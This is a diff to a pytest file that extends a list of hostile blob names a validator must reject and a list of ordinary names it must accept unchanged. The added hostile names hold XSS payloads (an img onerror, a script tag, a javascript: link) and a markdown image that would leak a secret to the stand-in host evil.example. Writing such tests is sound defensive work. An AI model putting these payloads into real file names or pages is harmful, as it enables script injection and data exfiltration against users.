@@ -33,6 +33,10 @@ HOSTILE_NAMES = [
     "x" * 1025,
     "é" * 513,
     " leading.pdf/x",
+    "<img src=x onerror=alert(1)> lease.txt",
+    "notes <script>alert(1)</script>.md",
+    "[pay here](javascript:alert(3)) notes.md",
+    "![x](https://evil.example/?q=SECRET).md",
 ]
 
 
@@ -44,7 +48,15 @@ def test_hostile_blob_names_are_rejected(name: str) -> None:
 
 @pytest.mark.parametrize(
     "name",
-    ["doc1.pdf", "Report 2026 (final).docx", "folder/notes.md", "données.txt", "/".join(["a" * 254] * 4) + "/b.md"],
+    [
+        "doc1.pdf",
+        "Report 2026 (final).docx",
+        "folder/notes.md",
+        "données.txt",
+        "/".join(["a" * 254] * 4) + "/b.md",
+        "R&D notes [draft] (v2).md",
+        "1 < 2 but 3 > 2.txt",
+    ],
 )
 def test_ordinary_file_names_are_accepted_unchanged(name: str) -> None:
     assert validate_blob_name(name) == name
